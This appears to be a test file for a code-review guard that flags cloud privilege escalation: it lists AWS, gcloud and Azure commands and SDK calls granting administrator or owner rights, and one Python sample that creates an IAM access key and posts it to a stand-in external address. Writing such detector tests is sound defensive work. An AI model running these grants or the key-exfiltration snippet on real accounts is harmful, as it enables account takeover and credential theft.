"""cloud_admin.py: administrator rights granted in a cloud account are held (privilege-escalation, review)."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed
from .test_fastpath_equivalence import assert_same

_ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"


@pytest.mark.parametrize("code,lang", [
    (f"aws iam attach-user-policy --user-name svc --policy-arn {_ADMIN}", "bash"),
    ("aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/IAMFullAccess", "bash"),
    ("aws iam put-user-policy --user-name u --policy-name p --policy-document "
     "'{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}'", "bash"),
    ("gcloud projects add-iam-policy-binding p --member=user:x@example.com --role=roles/owner", "bash"),
    ("az role assignment create --assignee x --role Owner --scope /subscriptions/1", "bash"),
    ("az role assignment create --assignee x --role 'User Access Administrator'", "bash"),
    (f'import boto3\niam = boto3.client("iam")\niam.attach_user_policy(UserName="svc", PolicyArn="{_ADMIN}")', "python"),
    (f'import {{ IAMClient, AttachRolePolicyCommand }} from "@aws-sdk/client-iam";\nconst c = new IAMClient({{}});\n'
     f'await c.send(new AttachRolePolicyCommand({{ RoleName: "r", PolicyArn: "{_ADMIN}" }}));', "typescript"),
    (f'const AWS = require("aws-sdk");\nnew AWS.IAM().attachUserPolicy({{ UserName: "u", PolicyArn: "{_ADMIN}" }}).promise();',
     "typescript"),
])
def test_admin_grants_are_held(code: str, lang: str) -> None:
    assert_reviewed(code, "privilege-escalation", lang)
    if lang == "bash":
        assert_same(code)


@pytest.mark.parametrize("code,lang", [
    ("aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess", "bash"),
    ("aws iam list-attached-user-policies --user-name svc", "bash"),
    ("gcloud projects add-iam-policy-binding p --member=serviceAccount:ci@p.iam.gserviceaccount.com "
     "--role=roles/storage.objectViewer", "bash"),
    ("az role assignment create --assignee x --role Reader", "bash"),
    ("aws iam get-policy --policy-arn " + _ADMIN, "bash"),
    ('import boto3\nboto3.client("iam").attach_role_policy(RoleName="r", '
     'PolicyArn="arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess")', "python"),
])
def test_narrow_grants_and_reads_stay_allowed(code: str, lang: str) -> None:
    assert_allowed(code, lang)
    if lang == "bash":
        assert_same(code)


def test_a_new_access_key_and_the_network_is_exfiltration() -> None:
    code = ('import boto3, urllib.request, json\niam = boto3.client("iam")\n'
            'key = iam.create_access_key(UserName="svc")["AccessKey"]\n'
            'urllib.request.urlopen("https://203.0.113.9/k", data=json.dumps(key, default=str).encode())')
    assert_blocked(code, "exfiltration", "python")
    # kept in the cloud's own secret store: no network of the code's own
    assert_allowed('import boto3\nkey = boto3.client("iam").create_access_key(UserName="ci")["AccessKey"]\n'
                   'boto3.client("secretsmanager").put_secret_value(SecretId="k", SecretString=key["SecretAccessKey"])',
                   "python")
